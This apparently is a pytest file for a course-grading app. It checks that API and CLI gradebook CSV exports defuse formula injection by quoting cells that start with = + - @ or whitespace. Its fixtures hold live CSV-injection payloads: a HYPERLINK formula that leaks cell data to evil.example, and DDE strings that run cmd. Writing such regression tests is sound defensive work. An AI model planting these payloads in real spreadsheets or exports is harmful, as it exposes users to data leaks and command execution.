"""The gradebook CSV never hands a spreadsheet a formula: a student's name or email, or an
assignment's title, that starts like one (= + - @ tab CR) is exported as text, with OWASP's
leading single quote, by the API and by `grader scores --csv` alike."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from typer.testing import CliRunner

from grader.cli_grades import app as service_cli
from grader.db.models import Assignment
from grader.db.session import session_scope
from grader.services import roster, users
from grader.services.spreadsheet import plain_cell
from tests.fixtures.services import Stack
from tests.web.support import Klass, LiveServer, api

OWASP_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click for your grade")', "+1+1", "-1+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0"]
HOSTILE_TITLE = "\t=1+1"  # names and emails are stripped of whitespace when created; titles are not


@dataclass
class HostileClass:
    klass: Klass
    course_code: str
    email: str


@pytest.fixture
def hostile(shared_sqlite_stack: Stack, make_klass: Callable[..., Klass]) -> HostileClass:
    """A class whose extra students chose formula-like names, one a formula-like email, and whose
    assignment has a formula-like title."""
    klass = make_klass(shared_sqlite_stack)
    email = f"=1+{uuid.uuid4().hex[:8]}@evil.example"
    with session_scope() as db:
        assignment = db.get_one(Assignment, klass.assignment_id)
        assignment.title = HOSTILE_TITLE
        db.commit()
        course = assignment.course
        prof = users.get_user_by_email(db, klass.instructor.email)
        assert prof is not None
        for name in HOSTILE_NAMES:
            roster.enrol(db, prof, course, f"{uuid.uuid4().hex[:8]}@web.test", "student", name)
        roster.enrol(db, prof, course, email, "student", "Mallory")
        db.commit()
        return HostileClass(klass, course.code, email)


def _assert_no_formula(export: str, hostile: HostileClass) -> None:
    rows = list(csv.reader(io.StringIO(export)))
    formulas = [cell for row in rows for cell in row if cell.startswith(OWASP_FORMULA_STARTS)]
    assert not formulas, f"cells a spreadsheet would run: {formulas}"
    assert {"'" + name for name in HOSTILE_NAMES} <= {row[0] for row in rows}
    assert "'" + hostile.email in {row[3] for row in rows}
    assert rows[0][-1] == "'" + HOSTILE_TITLE


def test_the_api_export_neutralizes_formulas(sqlite_server: LiveServer, hostile: HostileClass) -> None:
    with api(sqlite_server, hostile.klass.instructor) as prof:
        export = prof.get(f"/assignments/{hostile.klass.assignment_id}/gradebook.csv")
    assert export.status_code == 200
    _assert_no_formula(export.text, hostile)


def test_the_cli_export_neutralizes_formulas(hostile: HostileClass) -> None:
    exported = CliRunner().invoke(service_cli, ["scores", "hw2", "--course", hostile.course_code, "--csv",
                                                "--by", hostile.klass.instructor.email])
    assert exported.exit_code == 0, exported.output
    _assert_no_formula(exported.output, hostile)


@pytest.mark.parametrize("start", OWASP_FORMULA_STARTS)
def test_every_formula_start_gets_a_quote_and_nothing_else_does(start: str) -> None:
    assert plain_cell(f"{start}1+1") == f"'{start}1+1"
    assert plain_cell(f"Ada {start}1+1") == f"Ada {start}1+1"
    assert plain_cell("37") == "37" and plain_cell("") == ""
